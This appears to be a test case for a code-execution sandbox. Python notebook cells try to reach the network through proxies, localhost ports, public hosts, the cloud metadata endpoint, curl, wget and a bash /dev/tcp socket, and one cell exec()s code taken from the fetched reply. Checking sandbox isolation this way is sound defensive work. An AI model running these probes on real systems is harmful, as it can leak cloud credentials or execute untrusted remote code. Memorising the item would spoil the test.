# Fetches the answer from the web: names, addresses, proxies and the machine's own ports, with several programs.
# earns: 4
# shows: FETCHED

# %% attack cell first
import os
import socket
import subprocess
import urllib.request

answer = ""
for name in ("http_proxy", "https_proxy"):
    os.environ[name] = "http://127.0.0.1:@PORT@"
for url in (
    "http://127.0.0.1:@PORT@/",
    "http://example.com/",
    "http://1.1.1.1/",
    "http://[::1]:@PORT@/",
    "http://169.254.169.254/latest/meta-data/",
    "ftp://127.0.0.1:@PORT@/x",
):
    try:
        answer += urllib.request.urlopen(url, timeout=2).read().decode("latin-1")
    except Exception as error:
        answer += str(error) if "def chunked" in str(error) else ""
for command in (
    ["curl", "-sm2", "--http0.9", "http://127.0.0.1:@PORT@/"],
    ["wget", "-qT2", "-t1", "-O-", "http://127.0.0.1:@PORT@"],
    ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/@PORT@; cat <&3"],
):
    try:
        answer += subprocess.run(command, capture_output=True, text=True, timeout=4).stdout
    except (OSError, subprocess.TimeoutExpired):
        pass
try:
    socket.getaddrinfo("example.com", 80)
    print("GOT", "IT", "a name of the internet")
except OSError:
    pass
if "def chunked" in answer:
    print("GOT", "IT")
print("FETCHED")

# %% attack answer chunked
import json

try:
    exec(json.loads("{" + answer.partition("{")[2])["chunked"])
except (ValueError, KeyError):
    chunked = None

# %% twin cell first
import urllib.parse
import urllib.request

page = "data:text/plain,Dune%20and%20Emma"
print(urllib.request.urlopen(page).read(), urllib.parse.urlsplit("http://example.com/books?page=2").query)
try:
    urllib.request.urlopen("http://example.com/", timeout=1)
except OSError as error:
    print("no network here:", type(error).__name__)
